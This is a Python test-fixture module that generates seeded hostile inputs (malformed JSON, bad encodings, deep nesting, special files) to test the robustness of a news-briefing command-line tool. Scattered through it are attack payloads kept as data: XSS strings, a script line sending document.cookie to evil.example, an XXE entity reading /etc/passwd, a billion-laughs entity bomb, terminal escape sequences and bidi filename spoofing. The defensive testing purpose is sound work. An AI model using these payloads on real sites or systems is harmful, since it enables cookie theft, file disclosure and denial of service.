"""Hostile inputs for `briefing brief`, seeded: shared by tests/test_hostile.py and
benchmarks/hostile.py.

    GOOD                        three made-up news articles that every brief must cite
    write_good(folder)          -> [path, ...] their files (.txt, .txt, .json)
    batch(seed, n, size=20)     -> [Hostile, ...] one batch: `size` hostile inputs, seeded
    special_batch(seed, n)      -> FIFOs, device links, symlink loops (subprocess only)
    stdin_payloads(seed, n)     -> [Hostile, ...] bytes for `briefing brief -`
    json_records()              hypothesis strategy: one hostile JSON article record
    KINDS                       kind name -> generator(rng, token, story) -> Hostile

Every hostile input is ONE argument of the command (a file, a folder, or standard input) and is
bad as a whole, so the brief is expected to name it in exactly one `warning:` line (`expect`
gives the allowed number of warning lines naming it). Two softer classes:

- *carriers* are readable articles (a short story of their own, `STORIES`) with something
  hostile inside: escape sequences, a lone surrogate, a 5,000-digit date, a name with a byte
  that is not UTF-8. The brief may use them or skip them with one warning: 0 or 1 line.
- *junk* (furniture only, zero-width characters only) is readable text that cleaning drops; the
  README says junk is dropped with its reason shown by -v, so 0 or 1 line.

Every input carries a `token` (`zq0001a07x`) in its file name, folder name or URL, so that a
warning line can be matched to the input it names.
"""

from __future__ import annotations

import html
import json
import os
import random
import re
import stat
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

from hypothesis import strategies as st

# --- The good articles ---------------------------------------------------------------------------


@dataclass(frozen=True)
class Good:
    name: str  # file name
    title: str
    paragraphs: tuple[str, ...]
    url: str = ""
    published: str = ""

    @property
    def text(self) -> str:
        return "\n\n".join(self.paragraphs)

    def data(self) -> bytes:
        if self.name.endswith(".json"):
            record = {"title": self.title, "text": self.text, "url": self.url,
                      "published": self.published, "source": "Example Ledger"}
            return json.dumps(record, indent=1).encode()
        return f"{self.title}\n\n{self.text}\n".encode()


GOOD = (
    Good("good-reservoir.txt", "Calderon reservoirs fall to lowest level on record", (
        "Reservoirs in the southern province of Calderon held just 18 percent of their capacity "
        "on Wednesday, the lowest level since records began in 1961, the regional water "
        "authority said.",
        "The authority ordered farms in the Ambrel valley to cut irrigation by half from next "
        "week and asked households in the provincial capital to reduce their use by a fifth. "
        "Public fountains and car washes will be switched off until further notice.",
        "Hydrologist Irene Salazar said two dry winters in a row had left the main dam at "
        "Puente Oscuro with less water than in the drought of 1995. The authority plans to "
        "truck water to eleven hill villages whose wells have already run dry.",
    )),
    Good("good-tramline.txt", "New tram line opens across the river in Lurenz", (
        "The first trams on the new east-west line in Lurenz carried passengers across the "
        "rebuilt Saint Clement bridge on Sunday morning, three years after construction began.",
        "The 9-kilometre line links the central station with the university hospital and the "
        "housing estates of Nordhang, and the transport company expects about 30,000 trips a "
        "day. Trams will run every six minutes at peak times.",
        "City councillor Pavel Hrubin said the line had come in 4 million under budget. "
        "Cyclists' groups welcomed the wide bicycle lanes on the bridge but asked for more "
        "parking racks at the stops.",
    )),
    Good("good-telescope.json", "Observatory on Mount Tessel records first light", (
        "Astronomers at the new observatory on Mount Tessel released their first images on "
        "Thursday, a spiral galaxy about 30 million light years away seen in unusual detail.",
        "The 4-metre telescope was built by a consortium of six universities at a cost of 210 "
        "million. Its director, Dr. Amara Okonjo, said the site's dry, still air would let it "
        "study faint galaxies and the atmospheres of planets around nearby stars.",
        "Regular observations begin in February. Half of the telescope's time will go to "
        "projects chosen by an open competition among researchers from any country.",
    ), url="https://ledger.example.net/science/tessel-first-light",
        published="2026-11-20T21:15:00+00:00"),
)


def write_good(folder: Path) -> list[Path]:
    folder.mkdir(parents=True, exist_ok=True)
    paths = []
    for good in GOOD:
        path = folder / good.name
        path.write_bytes(good.data())
        paths.append(path)
    return paths


# Short stories of their own for the carriers: distinct topics, so that two carriers of one
# batch are two stories, never one story or a duplicate that cleaning drops.
STORIES = (
    "Firefighters in the port of Sanvel put out a blaze at a grain warehouse on Monday after "
    "working through the night. Nobody was hurt, the fire brigade said, but about 2,000 tonnes "
    "of wheat were lost.",
    "The town council of Oberlin voted on Tuesday to close its last public swimming pool for "
    "repairs. The work is expected to take eighteen months and cost about 6 million.",
    "A rare white stork chick hatched at the wetland reserve of Maren Marsh this week, the first "
    "there in forty years. Wardens have closed the nearest footpath to protect the nest.",
    "Bus drivers in the city of Kavor will get new electric buses from March, the transport "
    "company announced on Wednesday. The first forty vehicles arrive from the factory in "
    "January.",
    "The chess club of Dunmere won the national team championship on Saturday for the first "
    "time. Its youngest player, aged thirteen, drew against a grandmaster in the final round.",
    "Heavy snow closed the mountain pass between Ilse and Varno on Thursday morning. The road "
    "authority said snowploughs would work through the day and the pass might reopen by "
    "evening.",
    "A bakery in the old town of Serrat celebrated its two hundredth anniversary on Friday. "
    "The owners handed out free bread to the first five hundred customers of the day.",
    "The regional court in Halvik postponed the trial of three former bank managers until "
    "spring. The judge said the defence needed more time to read the prosecution's files.",
    "Volunteers planted twelve thousand trees along the banks of the river Aune on Sunday. "
    "The project aims to reduce flooding in the villages downstream within ten years.",
    "The museum of Castel Roa reopened its hall of medieval tapestries after a restoration "
    "that took six years. Visitors can see the largest tapestry, nine metres long, from "
    "Tuesday.",
)


# --- One hostile input ---------------------------------------------------------------------------

Setup = Callable[[Path], str]  # creates the input under a folder, returns the CLI argument


@dataclass(frozen=True)
class Hostile:
    kind: str
    token: str
    setup: Setup | None = None  # None for a stdin payload
    expect: tuple[int, int] = (1, 1)  # allowed number of warning lines naming it
    carrier: bool = False
    shown: tuple[str, ...] = ()  # what its warning line must show (escaped name parts)
    stdin: bytes | None = None
    secret: str = ""  # text that must never reach the output (an external entity's file)
    extra: dict[str, str] = field(default_factory=dict)

    @property
    def is_stdin(self) -> bool:
        return self.stdin is not None


def _file(name: str | bytes, data: bytes) -> Setup:
    """An input that is one file named `name` (bytes: any name the file system allows)."""

    def setup(folder: Path) -> str:
        raw = name if isinstance(name, bytes) else os.fsencode(name)
        path = os.path.join(os.fsencode(folder), raw)
        with open(path, "wb") as handle:
            handle.write(data)
        return os.fsdecode(path)

    return setup


def _record(story: str, token: str, **fields: object) -> dict[str, object]:
    record: dict[str, object] = {"title": f"Carrier {token}", "text": story,
                                 "url": f"https://news.example.com/{token}"}
    record.update(fields)
    return record


def _json_bytes(value: object) -> bytes:
    return json.dumps(value, ensure_ascii=True, allow_nan=True).encode()


Generator = Callable[[random.Random, str, str], Hostile]
KINDS: dict[str, Generator] = {}
CARRIERS: set[str] = set()
SPECIAL: dict[str, Generator] = {}


def kind(name: str, *, carrier: bool = False, special: bool = False
         ) -> Callable[[Generator], Generator]:
    def register(make: Generator) -> Generator:
        (SPECIAL if special else KINDS)[name] = make
        if carrier:
            CARRIERS.add(name)
        return make

    return register


# --- Kinds from the issue ------------------------------------------------------------------------


@kind("deep-json")
def deep_json(rng: random.Random, token: str, story: str) -> Hostile:
    depth = rng.choice((100_000, 150_000, 250_000))
    opener, closer = rng.choice((("[", "]"), ('{"a":', "}"), ('{"text":[', "]}")))
    suffix = rng.choice((".json", ".jsonl"))
    data = (opener * depth + closer * depth).encode()
    if rng.random() < 0.3:
        data = data[: len(data) // 2]  # and unterminated
    return Hostile("deep-json", token, _file(f"{token}-deep{suffix}", data))


@kind("published-huge-number", carrier=True)
def published_huge(rng: random.Random, token: str, story: str) -> Hostile:
    choice = rng.randrange(5)
    if choice == 0:
        value = "1" + "".join(rng.choice("0123456789") for _ in range(4999))
        raw = f'"published": {value}'
    elif choice == 1:
        raw = f'"published": {10**400}'
    elif choice == 2:
        raw = '"published": "' + "9" * 5000 + '"'
    elif choice == 3:
        raw = '"published": -' + "7" * 4400
    else:
        raw = '"date": 1e400'
    body = json.dumps(_record(story, token))[:-1] + ", " + raw + "}"
    return Hostile("published-huge-number", token, _file(f"{token}-date.json", body.encode()),
                   expect=(0, 1), carrier=True)


@kind("math-html")
def math_html(rng: random.Random, token: str, story: str) -> Hostile:
    page = rng.choice((
        "<math><p><body><meta>",
        "<math><p><body><meta>\n",
        "<svg><p><body><meta>",
        "<math><mi><p><body><meta charset='utf-8'>",
        "<html><math><p><body><meta></math></html>",
    ))
    suffix = rng.choice((".html", ".htm"))
    return Hostile("math-html", token, _file(f"{token}-page{suffix}", page.encode()))


@kind("bogus-charset", carrier=True)
def bogus_charset(rng: random.Random, token: str, story: str) -> Hostile:
    codec = rng.choice(("undefined", "base64", "rot13", "bogus", "hex", "zlib", "uu", "bz2",
                        "quopri", "utf-7x", "mbcs"))
    form = rng.choice((f'<meta charset="{codec}">',
                       f'<meta http-equiv="Content-Type" content="text/html; charset={codec}">'))
    body = story.replace("e", "\xe9", 3).encode("latin-1")  # not UTF-8
    page = (b"<html><head>" + form.encode() + b"<title>Carrier " + token.encode()
            + b"</title></head><body><article><p>" + body + b"</p></article></body></html>")
    return Hostile("bogus-charset", token, _file(f"{token}-charset.html", page),
                   expect=(0, 1), carrier=True)


@kind("lone-surrogate", carrier=True)
def lone_surrogate(rng: random.Random, token: str, story: str) -> Hostile:
    where = rng.choice(("title", "url", "published", "text", "source", "author"))
    surrogate = rng.choice(("\\udfff", "\\ud800", "\\udc80", "\\ud83d"))
    record = _record(story, token)
    record.setdefault("published", "2026-11-21T08:00:00Z")
    body = json.dumps(record)
    marker = "@@S@@"
    value = record.get(where) or ""
    record[where] = f"{value} {marker}" if where != "published" else marker
    body = json.dumps(record).replace(marker, surrogate)
    suffix = rng.choice((".json", ".jsonl"))
    return Hostile("lone-surrogate", token, _file(f"{token}-surrogate{suffix}", body.encode()),
                   expect=(0, 1), carrier=True)


@kind("undecodable-name", carrier=True)
def undecodable_name(rng: random.Random, token: str, story: str) -> Hostile:
    byte = rng.choice((b"\xff", b"\xfe", b"\x80", b"\xc3", b"\xed\xa0\x80"))
    name = b"bad" + byte + token.encode() + b".txt"
    shown = "\\x" + f"{byte[0]:02x}"
    return Hostile("undecodable-name", token, _file(name, story.encode()), expect=(0, 1),
                   carrier=True, shown=(shown,))


@kind("control-name")
def control_name(rng: random.Random, token: str, story: str) -> Hostile:
    char, shown = rng.choice((("\n", "\\n"), ("\x1b", "\\x1b"), ("\r", "\\r"), ("\t", "\\t"),
                              ("\x07", "\\x07"), ("\x9b", "\\x9b")))
    if char == "\x1b":
        char = rng.choice(("\x1b", "\x1b[31m", "\x1b]0;pwned\x07", "\x1b[2J"))
    name = f"{token}{char}tail.txt"
    data = rng.choice((b"", b"\x00\x01\x02\xff" * 64, b"\xff\xfe\xfd not text"))
    return Hostile("control-name", token, _file(name, data), shown=(shown, "tail.txt"))


@kind("unreadable-folder")
def unreadable_folder(rng: random.Random, token: str, story: str) -> Hostile:
    def setup(folder: Path) -> str:
        top = folder / f"{token}-folder"
        locked = top / "locked"
        locked.mkdir(parents=True)
        (locked / "inner.txt").write_bytes(b"")  # read as root: an empty file, one warning
        locked.chmod(0)
        return str(top)

    return Hostile("unreadable-folder", token, setup)


@kind("mixed-timezones", carrier=True)
def mixed_timezones(rng: random.Random, token: str, story: str) -> Hostile:
    published = rng.choice(("2026-11-21 09:30", "2026-11-21T09:30:00", "21 Nov 2026 09:30",
                            "2026-11-21", "Saturday, November 21, 2026 9:30 AM", 1795253400))
    record = _record(story, token, published=published)
    return Hostile("mixed-timezones", token, _file(f"{token}-naive.json", _json_bytes(record)),
                   expect=(0, 1), carrier=True)


_ESCAPE_SEQUENCES = ("\x1b[31m", "\x1b[0m", "\x1b]0;owned\x07", "\x1b[2J\x1b[H", "\x1b[1A\x1b[K",
                     "\x9b31m", "\x1b]8;;https://evil.example\x1b\\", "\x07", "\x08\x08\x08",
                     "\r", "\x1bP+q\x1b\\", "\x00", "\x7f", "\x1b", "\x85", "\x0c")


@kind("escape-sequences", carrier=True)
def escape_sequences(rng: random.Random, token: str, story: str) -> Hostile:
    def sprinkle(text: str, n: int) -> str:
        words = text.split(" ")
        for _ in range(n):
            i = rng.randrange(len(words))
            words[i] = rng.choice(_ESCAPE_SEQUENCES) + words[i]
        return " ".join(words)

    title = sprinkle(f"Carrier {token} headline", 2)
    text = sprinkle(story, rng.randint(3, 8))
    if rng.random() < 0.5:
        data = f"{title}\n\n{text}\n".encode()
        return Hostile("escape-sequences", token, _file(f"{token}-esc.txt", data),
                       expect=(0, 1), carrier=True)
    record = _record(text, token, title=title, author=sprinkle("Ann Writer", 1),
                     source=sprinkle("Example Times", 1))
    return Hostile("escape-sequences", token, _file(f"{token}-esc.json", _json_bytes(record)),
                   expect=(0, 1), carrier=True)


@kind("markup-injection", carrier=True)
def markup_injection(rng: random.Random, token: str, story: str) -> Hostile:
    url = rng.choice(("javascript:alert(1)", "JavaScript:alert(document.cookie)",
                      " javascript:void(0)", "data:text/html,<script>alert(1)</script>",
                      "vbscript:msgbox(1)", "java\tscript:alert(1)"))
    title = rng.choice((f"<script>alert('{token}')</script> Carrier",
                        f"Carrier {token} [click](javascript:alert(1))",
                        f"Carrier {token} <img src=x onerror=alert(1)>",
                        f"Carrier {token} ](javascript:alert(1)) **bold** # heading"))
    text = story + rng.choice((
        " <script>document.location='https://evil.example/'+document.cookie</script>",
        " See [the report](javascript:alert(1)) for details.",
        " <a href=\"javascript:alert(1)\">Read more</a> about it.",
        " ![x](javascript:alert(1)) and <iframe src=\"javascript:alert(1)\"></iframe>.",
        "\n\n<script>alert(1)</script>\n",
    ))
    record = _record(text, token, title=title, url=url, source="<b>Evil</b> Times")
    return Hostile("markup-injection", token, _file(f"{token}-inject.json", _json_bytes(record)),
                   expect=(0, 1), carrier=True)


@kind("nul-after-8k", carrier=True)
def nul_after_8k(rng: random.Random, token: str, story: str) -> Hostile:
    filler = (story + "\n\n") * (8200 // len(story) + 2)
    where = rng.randint(8193, len(filler) - 10)
    text = filler[:where] + "\x00" * rng.randint(1, 4) + filler[where:]
    return Hostile("nul-after-8k", token, _file(f"{token}-nul.txt", text.encode()),
                   expect=(0, 1), carrier=True)


@kind("huge-line")
def huge_line(rng: random.Random, token: str, story: str) -> Hostile:
    words = [w.strip(".,").lower() for w in story.split()]
    size = rng.randint(5_000_000, 5_500_000)
    chunk = " ".join(rng.choice(words) for _ in range(2000))
    data = ((chunk + " ") * (size // (len(chunk) + 1) + 1))[:size].encode()
    return Hostile("huge-line", token, _file(f"{token}-line.txt", data))


# --- A fresh hostile corpus ----------------------------------------------------------------------


@kind("utf16-no-bom", carrier=True)
def utf16_no_bom(rng: random.Random, token: str, story: str) -> Hostile:
    codec = rng.choice(("utf-16-le", "utf-16-be", "utf-32-le"))
    suffix = rng.choice((".txt", ".md", ".html", ".json"))
    text = story if suffix != ".json" else json.dumps(_record(story, token))
    return Hostile("utf16-no-bom", token, _file(f"{token}-utf16{suffix}", text.encode(codec)),
                   expect=(0, 1), carrier=True)


@kind("bom-only")
def bom_only(rng: random.Random, token: str, story: str) -> Hostile:
    data = rng.choice((b"\xef\xbb\xbf", b"\xff\xfe", b"\xfe\xff", b"\xef\xbb\xbf\n \n",
                       b"\xff\xfe\x00\x00", b"\xef\xbb\xbf\xef\xbb\xbf", b"\xff\xfe \x00\n\x00"))
    suffix = rng.choice((".txt", ".md", ".json", ".jsonl", ".html"))
    return Hostile("bom-only", token, _file(f"{token}-bom{suffix}", data))


@kind("zero-width-only")
def zero_width_only(rng: random.Random, token: str, story: str) -> Hostile:
    chars = "\u200b\u200c\u200d\u2060\ufeff\u00ad\u180e\u2062\u3164"
    text = "".join(rng.choice(chars + " \n") for _ in range(rng.randint(1, 3000)))
    return Hostile("zero-width-only", token, _file(f"{token}-zw.txt", ("x" + text)[1:].encode()))


@kind("huge-json-string")
def huge_json_string(rng: random.Random, token: str, story: str) -> Hostile:
    size = rng.choice((3_000_000, 8_000_000, 11_000_000))
    field_name = rng.choice(("headline", "url", "author", "title"))
    data = b'{"' + field_name.encode() + b'": "' + b"A" * size + b'"}'
    return Hostile("huge-json-string", token, _file(f"{token}-bigstr.json", data))


def _wrong(rng: random.Random, depth: int = 0) -> object:
    choice = rng.randrange(10 if depth < 3 else 7)
    if choice == 0:
        return None
    if choice == 1:
        return rng.choice((True, False))
    if choice == 2:
        return rng.choice((0, -1, 2**64, -(2**63), 10**30))
    if choice == 3:
        return rng.choice((0.5, -0.0, 1e308, float("nan"), float("inf"), float("-inf")))
    if choice == 4:
        return []
    if choice == 5:
        return {}
    if choice == 6:
        return rng.choice(("", " ", "\n"))
    if choice == 7:
        return [_wrong(rng, depth + 1) for _ in range(rng.randint(1, 3))]
    if choice == 8:
        return {"x": _wrong(rng, depth + 1), "y": [_wrong(rng, depth + 1)]}
    return {"name": _wrong(rng, depth + 1)}


_NO_TEXT = (None, {}, [], [None], [[]], {"x": 1}, [{}], "", "   ", [{"y": []}])


@kind("wrong-types-json")
def wrong_types_json(rng: random.Random, token: str, story: str) -> Hostile:
    record: dict[str, object] = {
        name: _wrong(rng) for name in (
            "title", "url", "source", "published", "author", "date", "link", "authors",
            "publishedAt", "site", "byline")
        if rng.random() < 0.7
    }
    record[rng.choice(("text", "body", "content"))] = rng.choice(_NO_TEXT)
    shape = rng.randrange(3)
    value: object = record if shape == 0 else [record] if shape == 1 else {"articles": [record]}
    return Hostile("wrong-types-json", token, _file(f"{token}-types.json", _json_bytes(value)))


@kind("json-not-articles")
def json_not_articles(rng: random.Random, token: str, story: str) -> Hostile:
    data = rng.choice((b"42", b"null", b"true", b'"just a string"', b"[]", b"{}",
                       b'{"articles": []}', b"[1, 2, 3]", b"[[], [[]]]", b"-Infinity",
                       b'{"articles": {"text": 5}}', b"NaN", b"1e999"))
    return Hostile("json-not-articles", token, _file(f"{token}-notart.json", data))


@kind("jsonl-garbage")
def jsonl_garbage(rng: random.Random, token: str, story: str) -> Hostile:
    lines = []
    for _ in range(rng.randint(2, 40)):
        lines.append(rng.choice((
            "{", "}", "not json at all", "[1,", '{"text": }', "null", "42", '"string"',
            '{"text": null}', '{"title": "only a title"}', "[" * 5000, "\x00\x01",
            '{"text": ' + json.dumps(rng.choice(_NO_TEXT)) + "}", "NaN", "{'single': 'quotes'}",
            '{"text": "unterminated', "\u2028", "\t",
        )))
    data = "\n".join(lines).encode("utf-8", "surrogatepass")
    return Hostile("jsonl-garbage", token, _file(f"{token}-garbage.jsonl", data))


@kind("deep-html", carrier=True)
def deep_html(rng: random.Random, token: str, story: str) -> Hostile:
    depth = rng.choice((300, 5_000, 50_000, 200_000))
    tag = rng.choice(("div", "span", "b", "table", "p", "article"))
    page = ("<html><head><title>Carrier " + token + "</title></head><body>"
            + f"<{tag}>" * depth + "<p>" + story + "</p>" + f"</{tag}>" * depth
            + "</body></html>")
    return Hostile("deep-html", token, _file(f"{token}-deep.html", page.encode()),
                   expect=(0, 1), carrier=True)


@kind("billion-laughs", carrier=True)
def billion_laughs(rng: random.Random, token: str, story: str) -> Hostile:
    entities = '<!ENTITY lol "lol">'
    for level in range(1, 10):
        entities += f'<!ENTITY lol{level} "' + f"&lol{level - 1 if level > 1 else ''};" * 10 + '">'
    entities = entities.replace("&lol0;", "&lol;")
    secret = ""
    if rng.random() < 0.5:
        entities += '<!ENTITY xxe SYSTEM "file:///etc/passwd">'
        secret = "root:x:0:0"
    body = "&lol9;" if not secret else "&xxe; &lol9;"
    suffix = rng.choice((".rss", ".xml", ".atom"))
    data = (f'<?xml version="1.0"?><!DOCTYPE rss [{entities}]><rss version="2.0"><channel>'
            f"<title>Laughs {token}</title><link>http://127.0.0.1:9/{token}</link>"
            f"<item><title>Carrier {token} {body}</title>"
            f"<description>{story} {body}</description></item></channel></rss>")
    return Hostile("billion-laughs", token, _file(f"{token}-laughs{suffix}", data.encode()),
                   expect=(0, 1), carrier=True, secret=secret)


@kind("empty-feed-items")
def empty_feed_items(rng: random.Random, token: str, story: str) -> Hostile:
    n = rng.choice((10_000, 12_000))
    item = rng.choice(("<item></item>", "<item><title></title><description/></item>",
                       "<item><guid>{t}</guid></item>", "<item><title>{t}</title></item>"))
    items = "".join(item.replace("{t}", token) for _ in range(n))
    data = (f'<?xml version="1.0"?><rss version="2.0"><channel><title>Empty {token}</title>'
            f"<link>http://127.0.0.1:9/{token}</link>{items}</channel></rss>")
    return Hostile("empty-feed-items", token, _file(f"{token}-empty.rss", data.encode()))


@kind("not-a-feed")
def not_a_feed(rng: random.Random, token: str, story: str) -> Hostile:
    data = rng.choice((b"", b"<rss", b"\x00\xff\xfe", b"<html><body>hello</body></html>",
                       b"<?xml version='1.0'?><notafeed/>", b"{}", b"\xef\xbb\xbf<<<>>>"))
    suffix = rng.choice((".rss", ".xml", ".atom"))
    return Hostile("not-a-feed", token, _file(f"{token}-feed{suffix}", data))


@kind("bidi-overrides", carrier=True)
def bidi_overrides(rng: random.Random, token: str, story: str) -> Hostile:
    marks = "\u202e\u202d\u202a\u202b\u202c\u2066\u2067\u2068\u2069\u200f\u061c"
    words = story.split(" ")
    for _ in range(rng.randint(2, 6)):
        i = rng.randrange(len(words))
        words[i] = rng.choice(marks) + words[i]
    title = f"Carrier {token} \u202etxt.exe\u202c headline"
    if rng.random() < 0.5:
        name = f"{token}-\u202ekcod.txt"
        return Hostile("bidi-overrides", token, _file(name, f"{title}\n\n{' '.join(words)}\n"
                                                      .encode()), expect=(0, 1), carrier=True)
    record = _record(" ".join(words), token, title=title)
    return Hostile("bidi-overrides", token, _file(f"{token}-bidi.json", _json_bytes(record)),
                   expect=(0, 1), carrier=True)


@kind("impossible-dates", carrier=True)
def impossible_dates(rng: random.Random, token: str, story: str) -> Hostile:
    value = rng.choice(("0000-00-00", "9999-12-31T99:99", "2026-02-30", "2026-13-01",
                        "-0001-01-01", "99999-01-01", "9999-12-31T23:59:59+99:00", -62135596800,
                        -62135596801000, -1e20, 253402300800, 2**63, "1e400", "Infinity",
                        "yesterday-ish", "2026-11-21T10:00:00+25:00", "31/31/2031", "\x00",
                        "0", -1, [2026, 11, 21], {"$date": "2026-11-21"}, "24:00"))
    record = _record(story, token, published=value)
    return Hostile("impossible-dates", token, _file(f"{token}-when.json", _json_bytes(record)),
                   expect=(0, 1), carrier=True)


@kind("nan-json", carrier=True)
def nan_json(rng: random.Random, token: str, story: str) -> Hostile:
    field_name = rng.choice(("published", "title", "url", "author", "source", "date"))
    value = rng.choice(("NaN", "Infinity", "-Infinity"))
    body = json.dumps(_record(story, token))[:-1] + f', "{field_name}": {value}}}'
    if field_name in ("title", "url"):
        body = body.replace(f'"{field_name}": ', f'"{field_name}_": ', 1)  # the NaN one counts
    return Hostile("nan-json", token, _file(f"{token}-nan.json", body.encode()),
                   expect=(0, 1), carrier=True)


@kind("long-title", carrier=True)
def long_title(rng: random.Random, token: str, story: str) -> Hostile:
    n = rng.choice((300, 5_000, 200_000))
    title = f"Carrier {token} " + "".join(rng.choice("abcdefghij ") for _ in range(n))
    if rng.random() < 0.3:
        title = f"Carrier{token}" + "W" * n  # one word, no place to wrap
    record = _record(story, token, title=title, author="A" * (n // 10),
                     source="S" * min(n, 1000))
    return Hostile("long-title", token, _file(f"{token}-title.json", _json_bytes(record)),
                   expect=(0, 1), carrier=True)


_FURNITURE = ("Leave a comment", "Share this", "Share this article", "Sign up for our newsletter",
              "Advertisement", "Click to share on Twitter", "Read more", "Related stories",
              "Accept cookies", "Tweet", "Email", "Print", "0 Comments", "Follow us",
              "Subscribe now")


@kind("furniture-only")
def furniture_only(rng: random.Random, token: str, story: str) -> Hostile:
    lines = [rng.choice(_FURNITURE) for _ in range(rng.randint(1, 30))]
    suffix = rng.choice((".txt", ".md"))
    return Hostile("furniture-only", token, _file(f"{token}-furniture{suffix}",
                                                  "\n".join(lines).encode()))


@kind("empty-file")
def empty_file(rng: random.Random, token: str, story: str) -> Hostile:
    data = rng.choice((b"", b" ", b"\n\n\n", b"\t \r\n", b"\x0b\x0c"))
    suffix = rng.choice((".txt", ".md", ".html", ".json", ".jsonl", ".htm"))
    return Hostile("empty-file", token, _file(f"{token}-empty{suffix}", data))


@kind("binary-garbage")
def binary_garbage(rng: random.Random, token: str, story: str) -> Hostile:
    size = rng.choice((16, 1000, 70_000))
    data = bytes(rng.randrange(256) for _ in range(size)) + b"\xff\x00"
    if rng.random() < 0.3:
        data = data.replace(b"\x00", b"\x01") + b"\xff\xc0"  # no NUL, but not UTF-8 either
    header = rng.choice((b"", b"%PDF-1.7\n", b"\x1f\x8b\x08", b"PK\x03\x04", b"\x89PNG\r\n"))
    suffix = rng.choice((".txt", ".md", ".json", ".html"))
    return Hostile("binary-garbage", token, _file(f"{token}-bin{suffix}", header + data))


@kind("invalid-utf8")
def invalid_utf8(rng: random.Random, token: str, story: str) -> Hostile:
    bad = rng.choice((b"\xed\xa0\x80", b"\xc0\xaf", b"\xf8\x88\x80\x80\x80", b"\xe2\x82",
                      b"\xf4\x90\x80\x80", b"\xc3\x28"))
    cut = rng.randrange(len(story))
    data = story[:cut].encode() + bad + story[cut:].encode()
    suffix = rng.choice((".txt", ".md", ".json", ".jsonl"))
    return Hostile("invalid-utf8", token, _file(f"{token}-utf8{suffix}", data))


@kind("script-only-html")
def script_only_html(rng: random.Random, token: str, story: str) -> Hostile:
    page = rng.choice((
        "<html><head><script>var a = 1;</script></head><body></body></html>",
        "<html><body><style>p { color: red }</style><nav>Home | World</nav></body></html>",
        "<!doctype html><html><body><img src=x><br><hr></body></html>",
        "<html><body><!-- " + "comment " * 1000 + "--></body></html>",
        "<html><body><p>&#0;&#x1b;&#xD800;&#99999999;</p></body></html>",
    ))
    return Hostile("script-only-html", token, _file(f"{token}-script.html", page.encode()))


@kind("too-large")
def too_large(rng: random.Random, token: str, story: str) -> Hostile:
    size = 10 * 1024 * 1024 + rng.randint(1, 4096)

    def setup(folder: Path) -> str:
        path = folder / f"{token}-big.txt"
        with open(path, "wb") as handle:
            handle.truncate(size)  # a sparse file: costs no disk, reads as NULs
        return str(path)

    return Hostile("too-large", token, setup)


@kind("missing-path")
def missing_path(rng: random.Random, token: str, story: str) -> Hostile:
    def setup(folder: Path) -> str:
        return str(folder / f"{token}-gone" / rng.choice(("x.txt", "", "a/b.json")))

    return Hostile("missing-path", token, setup)


# --- Special files: only through a subprocess (a bug here hangs or exhausts memory) ---------------


def _special_file(name: str, make: Callable[[Path], None]) -> Callable[..., Hostile]:
    """A hostile input that is `x.txt` in a folder of its own, made by `make(path)`."""

    def generate(rng: random.Random, token: str, story: str) -> Hostile:
        def setup(folder: Path) -> str:
            (folder / token).mkdir()
            path = folder / token / "x.txt"
            make(path)
            return str(path)

        return Hostile(name, token, setup)

    return generate


fifo = kind("fifo", special=True)(_special_file("fifo", os.mkfifo))
dev_zero = kind("dev-zero", special=True)(
    _special_file("dev-zero", lambda path: os.symlink("/dev/zero", path)))
dev_urandom = kind("dev-urandom", special=True)(
    _special_file("dev-urandom", lambda path: os.symlink("/dev/urandom", path)))


@kind("symlink-loops", special=True)
def symlink_loops(rng: random.Random, token: str, story: str) -> Hostile:
    def setup(folder: Path) -> str:
        top = folder / f"{token}-loops"
        top.mkdir()
        os.symlink(".", top / "a")
        os.symlink(".", top / "b")
        (top / "empty.txt").write_bytes(b"")
        return str(top)

    # the empty file is named once; the two loops may each be named once, or not at all
    return Hostile("symlink-loops", token, setup, expect=(1, 3), extra={"once": "empty.txt"})


@kind("special-files-folder", special=True)
def special_files_folder(rng: random.Random, token: str, story: str) -> Hostile:
    def setup(folder: Path) -> str:
        top = folder / f"{token}-specials"
        top.mkdir()
        os.mkfifo(top / "x.txt")
        os.symlink("/dev/zero", top / "y.txt")
        os.symlink("/dev/urandom", top / "z.json")
        os.symlink(top / "missing-target.txt", top / "dangling.txt")
        return str(top)

    # a folder of special files gives no article; each may be named once
    return Hostile("special-files-folder", token, setup, expect=(0, 4))


# --- Batches -------------------------------------------------------------------------------------

PLAIN = sorted(k for k in KINDS if k not in CARRIERS)
CARRYING = sorted(CARRIERS)
MAX_CARRIERS = 2  # readable stories per batch besides the good ones: the page keeps the good ones
MAX_WEIGHT = 20  # big inputs per batch: one 5 MB line, or two feeds of laughs


def token(seed: int, number: int, index: int) -> str:
    return f"zq{seed % 100:02d}{number:04d}i{index:02d}x"


def batch(seed: int, number: int, size: int = 20) -> list[Hostile]:
    """`size` hostile inputs, at most MAX_CARRIERS of them readable, every kind in turn.

    Batch `number` starts where the previous one ended in a seeded order of the kinds, so that
    consecutive batches together cover every kind about equally.
    """
    order = random.Random(seed).sample(PLAIN, len(PLAIN))
    rng = random.Random(f"{seed}/{number}")
    chosen: list[str] = []
    weight = 0
    start = number * (size - MAX_CARRIERS)
    step = 0
    while len(chosen) < size - MAX_CARRIERS:
        name = order[(start + step) % len(order)]
        step += 1
        cost = _WEIGHTS.get(name, 0)
        if weight + cost > MAX_WEIGHT:
            continue
        weight += cost
        chosen.append(name)
    carriers = [CARRYING[(number * MAX_CARRIERS + j) % len(CARRYING)] for j in range(MAX_CARRIERS)]
    names = chosen + carriers
    rng.shuffle(names)
    stories = rng.sample(STORIES, len(STORIES))
    out: list[Hostile] = []
    used = 0
    for i, name in enumerate(names):
        story = stories[used % len(stories)]
        if name in CARRIERS:
            used += 1
        out.append(KINDS[name](rng, token(seed, number, i), story))
    return out


# Rough cost of one input in tenths of a second (the rest cost about 0.01 s each).
_WEIGHTS = {"huge-line": 20, "deep-html": 20, "empty-feed-items": 12, "billion-laughs": 10}


def special_batch(seed: int, number: int) -> list[Hostile]:
    """One of each special file: FIFO, /dev/zero and /dev/urandom links, loops, a folder."""
    rng = random.Random(f"special/{seed}/{number}")
    return [make(rng, token(seed, number, 90 + i), STORIES[i])
            for i, make in enumerate(SPECIAL.values())]


def setup_all(inputs: list[Hostile], folder: Path) -> list[str]:
    folder.mkdir(parents=True, exist_ok=True)
    return [h.setup(folder) for h in inputs if h.setup is not None]


def unlock(folder: Path) -> None:
    """Make chmod-000 folders readable again so that the temporary tree can be removed."""
    for root, dirs, _files in os.walk(folder):  # top-down: a folder is opened after its chmod
        for name in dirs:
            path = os.path.join(root, name)
